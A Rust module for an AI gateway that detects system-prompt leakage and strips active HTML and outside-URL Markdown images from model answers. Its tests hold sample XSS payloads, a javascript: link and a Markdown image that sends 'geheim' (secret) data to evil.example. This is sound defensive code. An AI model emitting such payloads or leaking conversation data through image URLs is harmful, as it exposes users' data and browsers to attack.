//! Output checks that are not about personal data: system-prompt leakage (OWASP LLM07) and
//! improper output handling (OWASP LLM05).
//!
//! Leakage: the answer may not contain a run of eight consecutive words of the gateway's own
//! system prompt. Output handling: answers are shown in web pages and chat clients, so active
//! HTML (`<script>`, `<iframe>`, event handlers, `javascript:` links) and Markdown images that
//! load an outside URL (a known exfiltration channel: the URL carries the conversation) are
//! neutralised before anything leaves the server.

use std::collections::HashSet;

/// Words in a leak shingle.
const SHINGLE: usize = 8;

/// Shingles of the system prompt, to find leaks.
#[derive(Debug, Clone, Default)]
pub struct LeakDetector {
    shingles: HashSet<String>,
}

fn words(text: &str) -> Vec<String> {
    text.split(|c: char| !c.is_alphanumeric()).filter(|w| !w.is_empty()).map(str::to_lowercase).collect()
}

impl LeakDetector {
    /// Built from the gateway's system prompt text.
    pub fn new(system_prompt: &str) -> Self {
        let w = words(system_prompt);
        LeakDetector { shingles: w.windows(SHINGLE).map(|s| s.join(" ")).collect() }
    }

    /// Whether `output` repeats part of the system prompt.
    pub fn leaks(&self, output: &str) -> bool {
        if self.shingles.is_empty() {
            return false;
        }
        words(output).windows(SHINGLE).any(|s| self.shingles.contains(&s.join(" ")))
    }
}

/// Neutralises active content. Returns the safe text and whether anything changed.
pub fn sanitise(text: &str) -> (String, bool) {
    let lower = text.to_ascii_lowercase();
    let risky = ["<script", "<iframe", "<object", "<embed", "javascript:", "onerror=", "onload=", "![", "<img", "<svg", "data:text/html"];
    if !risky.iter().any(|r| lower.contains(r)) {
        return (text.to_owned(), false);
    }
    let mut out = String::with_capacity(text.len());
    let mut changed = false;
    let mut rest = text;
    while let Some(i) = rest.find(['<', '!', 'j', 'J', 'd', 'D', 'o', 'O']) {
        let (head, tail) = rest.split_at(i);
        out.push_str(head);
        let tl = tail.to_ascii_lowercase();
        if tl.starts_with('<')
            && ["<script", "<iframe", "<object", "<embed", "<img", "<svg", "<style", "<link", "<meta"].iter().any(|t| tl.starts_with(t))
        {
            // Drop the tag; keep the text after it visible as text.
            let end = tail.find('>').map_or(tail.len(), |e| e + 1);
            out.push_str("[verwijderd]");
            rest = &tail[end..];
            changed = true;
        } else if tl.starts_with("![") {
            // A Markdown image: keep the alt text, drop the URL.
            match (tail.find("]("), tail.find(')')) {
                (Some(a), Some(b)) if a < b => {
                    out.push_str(&tail[2..a]);
                    rest = &tail[b + 1..];
                    changed = true;
                }
                _ => {
                    out.push('!');
                    rest = &tail[1..];
                }
            }
        } else if let Some(p) = ["javascript:", "data:text/html", "onerror=", "onload="].iter().find(|p| tl.starts_with(**p)) {
            out.push_str("[verwijderd]");
            rest = &tail[p.len()..];
            changed = true;
        } else {
            let c = tail.chars().next().map_or(1, char::len_utf8);
            out.push_str(&tail[..c]);
            rest = &tail[c..];
        }
    }
    out.push_str(rest);
    (out, changed)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn active_content_is_neutralised_and_plain_text_kept() {
        let (t, c) = sanitise("Zie <script>alert(1)</script> en ![x](https://evil.example/?q=geheim) en [link](javascript:alert(1))");
        assert!(c);
        assert!(!t.to_lowercase().contains("<script"), "{t}");
        assert!(!t.contains("evil.example"), "{t}");
        assert!(!t.contains("javascript:"), "{t}");
        let plain = "Dit is een gewoon antwoord! Met een uitroepteken (en haakjes).";
        assert_eq!(sanitise(plain), (plain.to_owned(), false));
    }

    #[test]
    fn a_leaked_system_prompt_is_seen() {
        let d = LeakDetector::new("U bent de assistent van de gemeente en beantwoordt alleen vragen over de Wmo volgens de regels");
        assert!(d.leaks("Mijn instructies: u bent de assistent van de gemeente en beantwoordt alleen vragen"));
        assert!(!d.leaks("De Wmo regelt ondersteuning thuis."));
    }
}
